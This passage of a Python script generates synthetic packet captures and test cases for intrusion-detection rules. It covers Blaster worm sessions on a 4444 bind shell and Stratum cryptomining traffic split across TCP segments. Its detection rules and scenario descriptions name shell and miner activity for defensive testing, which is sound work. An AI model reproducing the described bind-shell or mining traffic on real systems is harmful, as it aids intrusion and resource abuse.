    "blaster": (gen_blaster, "Blaster on the 4444 bind shell: a whole session (tftp GET, start, name: one alert on the stream) and a connection picked up mid-stream with variant B's start and name (one alert each).", [(9100901, 3)]),
    "blaster-negative": (gen_blaster_negative, "A removal tool download that quotes the commands, and a 4444 session that starts notepad and deletes msblast.exe: no alert.", []),
}


# ---------------------------------------------------------------------------
# Stream-mode matching (test/pcap/cases/match-stream-*): contents split across
# TCP segments, chunks, retransmissions, reordering, closes. Each capture
# comes with its own rules; the counts are Suricata 7.0.10's.
# ---------------------------------------------------------------------------

STREAM_CLIENT, STREAM_SERVER = "10.1.9.10", "203.0.113.9"
STREAM_RULES = """\
alert tcp any any -> any any (msg:"stream: mining.subscribe"; flow:established,to_server; content:"mining.subscribe"; sid:1;)
alert tcp any any -> any any (msg:"packet only: mining.subscribe"; flow:established,to_server,no_stream; content:"mining.subscribe"; sid:2;)
alert tcp any any -> any any (msg:"packet and stream: request at the start"; flow:established,to_server; content:"POST "; depth:5; sid:3;)
alert tcp any any -> any any (msg:"stream: split upload marker"; flow:established,to_server; content:"X-Needle-In-Stream"; nocase; sid:4;)
alert tcp any any -> any any (msg:"stream: job from the server"; flow:established,to_client; content:"mining.notify"; pcre:"/mining\\.notify\\x22,\\x22params\\x22:\\[\\x22[0-9a-f]{8}/"; sid:5;)
"""


def stratum_subscribe():
    return jline('{"id":1,"method":"mining.subscribe","params":["cgminer/4.10.0"]}')


def gen_stream_split(cap):
    # The request in two segments, split inside the content; the client closes.
    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51000, 3333, client_inbound=False)
    req = stratum_subscribe()
    cut = req.index(b"subscribe")
    t.segment(True, "PA", req[:cut])
    t.segment(True, "PA", req[cut:])
    t.segment(False, "A")
    t.server(jline('{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}'))
    t.close()


def gen_stream_chunks(cap):
    # An upload of 12 KiB: the marker is split across the 3rd and 4th
    # segments; chunks of ACKed bytes are inspected as the ACKs come (every
    # second segment), and the marker lies inside the second chunk.
    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51002, 8080, client_inbound=False)
    head = b"POST /upload HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: 12000\r\n\r\n"
    body = bytearray(cap.rng.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(12000))
    marker = b"x-needle-in-stream"
    at = MSS * 3 - len(head) - 7  # the marker crosses the 3rd segment boundary
    body[at:at + len(marker)] = marker
    data = head + bytes(body)
    for i in range(0, len(data), MSS):
        t.segment(True, "PA", data[i:i + MSS])
        if (i // MSS) % 2 == 1:
            t.segment(False, "A")
    t.segment(False, "A")
    t.server(http_response())
    t.close()


def gen_stream_retransmit(cap):
    # The request is retransmitted whole (its ACK was lost), then the server
    # closes first.
    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51004, 3333, client_inbound=False)
    req = stratum_subscribe()
    t.segment(True, "PA", req)
    t.seq[True] -= len(req)
    t.segment(True, "PA", req)
    t.segment(False, "A")
    t.server(jline('{"id":1,"result":true,"error":null}'))
    t.segment(False, "FA")
    t.seq[False] += 1
    t.segment(True, "FA")
    t.seq[True] += 1
    t.segment(False, "A")


def gen_stream_out_of_order(cap):
    # The second half of the request arrives before the first.
    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51006, 3333, client_inbound=False)
    req = stratum_subscribe()
    cut = req.index(b".subscribe")
    start = t.seq[True]
    t.seq[True] = (start + cut) & 0xFFFFFFFF
    t.segment(True, "PA", req[cut:])
    t.seq[True] = start
    t.segment(True, "PA", req[:cut])
    t.seq[True] = (start + len(req)) & 0xFFFFFFFF
    t.segment(False, "A")
    t.close()


def gen_stream_server_push(cap):
    # A pool pushes jobs in small segments, each job split in two; the
    # connection is never closed (the capture ends).
    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51008, 3333, client_inbound=False)
    t.client(stratum_subscribe())
    for job in range(3):
        push = jline('{"id":null,"method":"mining.notify","params":["%08x","%s",true]}'
                     % (0x4a00 + job, hexstr(cap.rng, 32)))
        cut = push.index(b"notify") + 3
        t.segment(False, "PA", push[:cut])
        t.segment(False, "PA", push[cut:])
        t.segment(True, "A")


STREAM_SCENARIOS = {
    "split": (gen_stream_split, "A Stratum subscribe split inside the content across two segments: the stream rule alerts once, on the client's FIN (Suricata inspects at once after the initiator's FIN); the packet-only rule never.", [(1, 1)]),
    "chunks": (gen_stream_chunks, "A 12 KiB upload with a marker split across a segment boundary: found in an ACKed chunk; the depth-5 rule alerts on the first packet and again on the first chunk, which starts with the request too.", [(3, 2), (4, 1)]),
    "retransmit": (gen_stream_retransmit, "A request sent twice (retransmission), the server closes first: the stream rule alerts once; the packet-only rule on both copies.", [(1, 1), (2, 2)]),
    "out-of-order": (gen_stream_out_of_order, "The second half of a request arrives first: the halves are put in order and the content found; neither half alone holds it for the packet-only rule.", [(1, 1)]),
    "server-push": (gen_stream_server_push, "A pool pushes three mining.notify jobs, each split in two segments, and the capture ends with the connection open: the stream holds them until the flow ends. The subscribe came in one segment: both client rules.", [(1, 1), (2, 1), (5, 1)]),
}


def stream_case_yaml(name, description, expected):
    folder = f"test/pcap/cases/match-stream-{name}"
    lines = [f"# Written by scripts/gen-rule-pcaps.py (stream scenario {name}); regenerate, do not edit.",
             "# The counts are those of Suricata 7.0.10 (scripts/diff-suricata.sh) on this capture.",
             "description: >"]
    words, line = description.split(), "  "
    for w in words:
        if len(line) + len(w) > 90:
            lines.append(line.rstrip())
            line = "  "
        line += w + " "
    lines.append(line.rstrip())
    lines += [f"inputs: [{folder}/input.pcap]",
              f'args: [--rules, "{{root}}/{folder}/test.rules"]',
              "workers: [1, 2]",
              "expect:"]
    if expected:
        lines.append("  alerts:")
        lines += [f"    - {{sid: {sid}, count: {count}}}" for sid, count in expected]
    else:
        lines.append("  alerts: []")
    return "\n".join(lines) + "\n"


def case_yaml(name, description, expected):
    lines = [f"# Written by scripts/gen-rule-pcaps.py (scenario {name}); regenerate, do not edit.",
             "description: >"]
    words, line = description.split(), "  "
    for w in words:
        if len(line) + len(w) > 90:
            lines.append(line.rstrip())
            line = "  "
        line += w + " "
    lines.append(line.rstrip())
    lines += [f"inputs: [test/pcap/cases/rule-{name}/input.pcap]",
              'args: [--rules, "{root}/rules/safeguard.rules", --classification, "{root}/rules/classification.config"]',
              "workers: [1, 2]",
              "expect:"]
    if expected:
        lines.append("  alerts:")
        lines += [f"    - {{sid: {sid}, count: {count}}}" for sid, count in expected]
    else:
        lines.append("  alerts: []")
    return "\n".join(lines) + "\n"


def write_scenario(name, out_root):
    """Scenario `name` (rule scenario, or stream-NAME) into its case folder."""
    if name.startswith("stream-"):
        gen, description, expected = STREAM_SCENARIOS[name[len("stream-"):]]
        folder = out_root / f"match-{name}"
        text = stream_case_yaml(name[len("stream-"):], description, expected)
    else:
        gen, description, expected = SCENARIOS[name]
        folder = out_root / f"rule-{name}"
        text = case_yaml(name, description, expected)
    cap = Capture(name)
    gen(cap)
    folder.mkdir(parents=True, exist_ok=True)
    wrpcap(str(folder / "input.pcap"), cap.packets, linktype=1)
    (folder / "case.yaml").write_text(text)
    if name.startswith("stream-"):
        (folder / "test.rules").write_text(STREAM_RULES)
    return folder


def all_scenarios():
    return list(SCENARIOS) + [f"stream-{n}" for n in STREAM_SCENARIOS]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("names", nargs="*", help="scenarios (default: all)")
    ap.add_argument("--out", type=Path, default=CASES, help="where the rule-NAME/ folders go")
    ap.add_argument("--check", action="store_true", help="compare a fresh generation with --out")
    ap.add_argument("--list", action="store_true", help="list the scenarios")
    args = ap.parse_args()
    names = args.names or all_scenarios()
    unknown = [n for n in names if n not in all_scenarios()]
    if unknown:
        ap.error(f"unknown scenario(s): {', '.join(unknown)}; --list shows them")
    if args.list:
        for n in names:
            scenario = STREAM_SCENARIOS[n[len("stream-"):]] if n.startswith("stream-") else SCENARIOS[n]
            print(f"{n:28} {scenario[1]}")
        return 0
    if args.check:
        differ = 0
        with tempfile.TemporaryDirectory() as tmp:
            for n in names:
                fresh = write_scenario(n, Path(tmp))
                for f in ("input.pcap", "case.yaml"):
                    have = args.out / fresh.name / f
                    if not have.exists() or not filecmp.cmp(fresh / f, have, shallow=False):
                        print(f"differs: {have.relative_to(ROOT) if have.is_relative_to(ROOT) else have}")
                        differ += 1
        print(f"{len(names)} scenarios, {differ} file(s) differ")
        return 1 if differ else 0
    for n in names:
        folder = write_scenario(n, args.out)
        size = (folder / "input.pcap").stat().st_size
        print(f"{folder.relative_to(ROOT) if folder.is_relative_to(ROOT) else folder}: {size} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
